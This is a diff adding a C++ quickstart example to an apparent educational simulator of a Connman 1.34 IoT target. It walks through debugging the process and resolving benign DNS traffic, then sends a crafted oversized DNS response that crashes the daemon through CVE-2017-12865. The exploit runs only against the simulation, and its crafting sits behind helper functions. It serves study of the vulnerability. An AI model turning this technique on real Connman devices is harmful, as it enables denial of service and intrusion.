@@ -1,0 +1,68 @@
+// Quickstart: boot a simulated IoT target, look at its process image the
+// way the paper's authors did with gdb, run benign DNS traffic through the
+// Connman dnsproxy, then watch CVE-2017-12865 take the daemon down.
+//
+//   ./examples/quickstart
+#include <cstdio>
+
+#include "src/connman/dnsproxy.hpp"
+#include "src/dbg/debugger.hpp"
+#include "src/dns/craft.hpp"
+#include "src/loader/boot.hpp"
+
+using namespace connlab;
+
+int main() {
+  std::printf("connlab quickstart — simulated Connman 1.34 target\n");
+  std::printf("====================================================\n\n");
+
+  // 1. Boot the device firmware: VARM (Raspberry-Pi-flavoured), no
+  //    exploit mitigations, like the paper's first experiments.
+  auto booted = loader::Boot(isa::Arch::kVARM,
+                             loader::ProtectionConfig::None(), /*seed=*/2026);
+  if (!booted.ok()) {
+    std::printf("boot failed: %s\n", booted.status().ToString().c_str());
+    return 1;
+  }
+  loader::System& sys = *booted.value();
+  std::printf("booted %s, protections: %s\n\n",
+              std::string(isa::ArchName(sys.arch)).c_str(),
+              sys.prot.ToString().c_str());
+
+  // 2. Examine the process, gdb-style.
+  dbg::Debugger dbg(sys);
+  std::printf("process mappings:\n%s\n", dbg.Maps().c_str());
+  const auto parse = dbg.SymbolAddr("connman.parse_response").value_or(0);
+  std::printf("parse_response lives at 0x%08x (%s)\n", parse,
+              dbg.Describe(parse).c_str());
+  const auto plt = dbg.SymbolAddr("plt.memcpy").value_or(0);
+  std::printf("disassembly of memcpy@plt:\n%s\n",
+              dbg.Disassemble(plt, 16).value_or("?").c_str());
+
+  // 3. Benign traffic: a local app resolves a name through the dnsproxy.
+  connman::DnsProxy proxy(sys, connman::Version::k134);
+  dns::Message query = dns::Message::Query(0x1001, "updates.vendor.example");
+  auto upstream = proxy.AcceptClientQuery(dns::Encode(query).value());
+  if (!upstream.ok()) return 1;
+  dns::Message response = dns::Message::ResponseFor(query);
+  response.answers.push_back(
+      dns::MakeA("updates.vendor.example", "93.184.216.34", 300));
+  auto outcome = proxy.HandleServerResponse(dns::Encode(response).value());
+  std::printf("benign response outcome: %s\n", outcome.ToString().c_str());
+  auto cached = proxy.cache().Lookup("updates.vendor.example", proxy.now() + 1);
+  std::printf("cache now holds %zu record(s) for updates.vendor.example\n\n",
+              cached.size());
+
+  // 4. The CVE: a response whose name expands past the 1024-byte buffer.
+  dns::Message query2 = dns::Message::Query(0x1002, "updates.vendor.example");
+  (void)proxy.AcceptClientQuery(dns::Encode(query2).value());
+  auto junk = dns::JunkLabels(4000);
+  dns::Message evil = dns::MaliciousAResponse(query2, junk.value());
+  auto crash = proxy.HandleServerResponse(dns::Encode(evil).value());
+  std::printf("malicious response outcome: %s\n", crash.ToString().c_str());
+  std::printf("bytes expanded before the fault: %u (buffer is %u)\n",
+              crash.name_bytes_written, connman::kNameBufSize);
+  std::printf("\nThat crash is the DoS half of CVE-2017-12865. Run\n"
+              "./examples/six_attacks for the RCE half.\n");
+  return 0;
+}
